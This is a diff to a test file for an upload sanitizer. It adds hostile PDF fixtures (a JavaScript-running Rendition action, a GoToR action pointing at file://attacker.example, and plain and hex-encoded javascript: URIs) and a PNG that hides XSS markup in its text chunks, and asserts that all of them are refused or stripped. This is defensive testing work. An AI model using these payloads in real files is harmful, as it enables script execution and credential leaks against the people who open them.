@@ -187,6 +187,12 @@ def _pdf_javascript(name: bytes = b"/JavaScript") -> bytes:
     return _pdf([catalog, PAGES, PAGE, TEXT, b"<< /S " + name + b" /JS (app.alert\\(1\\)) >>"])
 
 
+def _pdf_action(action: bytes) -> bytes:
+    """A PDF whose opening runs this action."""
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
+    return _pdf([catalog, PAGES, PAGE, TEXT, action])
+
+
 def _pdf_javascript_in_object_stream() -> bytes:
     """The action compressed inside an object stream (PDF 1.5): invisible in the raw bytes."""
     objects = b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
@@ -355,6 +361,34 @@ HOSTILE = {
     ),
     "pdf-javascript": (
         _pdf_javascript,
+        "cert.pdf",
+        "application/pdf",
+        "scripts, actions or attached files",
+        "脚本、动作或附带的文件",
+    ),
+    "pdf-rendition-running-javascript": (
+        lambda: _pdf_action(b"<< /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >>"),
+        "cert.pdf",
+        "application/pdf",
+        "scripts, actions or attached files",
+        "脚本、动作或附带的文件",
+    ),
+    "pdf-remote-goto": (
+        lambda: _pdf_action(b"<< /S /GoToR /F (file://attacker.example/share/x.pdf) /D [0 /Fit] >>"),
+        "cert.pdf",
+        "application/pdf",
+        "scripts, actions or attached files",
+        "脚本、动作或附带的文件",
+    ),
+    "pdf-javascript-uri": (
+        lambda: _pdf_action(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
+        "cert.pdf",
+        "application/pdf",
+        "scripts, actions or attached files",
+        "脚本、动作或附带的文件",
+    ),
+    "pdf-javascript-uri-hex": (
+        lambda: _pdf_action(b"<< /S /URI /URI <" + b"javascript:alert(1)".hex().encode() + b"> >>"),
         "cert.pdf",
         "application/pdf",
         "scripts, actions or attached files",
@@ -593,6 +627,20 @@ def test_good_files_from_real_producers_pass():
     scans["36-megapixels"] = _png_claiming(6_000, 6_000)  # under the limit: taken, never decoded
     for name, content in scans.items():
         assert read_upload(SimpleUploadedFile(name, content))[1] in ("application/pdf", "image/png", "image/jpeg")
+
+
+def test_markup_in_a_pngs_text_chunks_is_not_kept():
+    # Used to pass: HTML in a PNG's (compressed) text chunk was stored and handed over as it came.
+    markup = b'<img src=x onerror="alert(1)">'
+    png = _png(64, 48)
+    iend = png.rindex(b"IEND") - 4
+    hidden = png[:iend] + _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(markup)) + png[iend:]
+    hidden = hidden[:iend] + _chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + markup) + hidden[iend:]
+    content, content_type = read_upload(SimpleUploadedFile("id.png", hidden))
+    assert content_type == "image/png" and markup not in content and zlib.compress(markup) not in content
+    assert b"zTXt" not in content and b"iTXt" not in content
+    with Image.open(io.BytesIO(content)) as image:
+        assert image.size == (64, 48)  # still the same picture
 
 
 # --- The API ----------------------------------------------------------------------------------
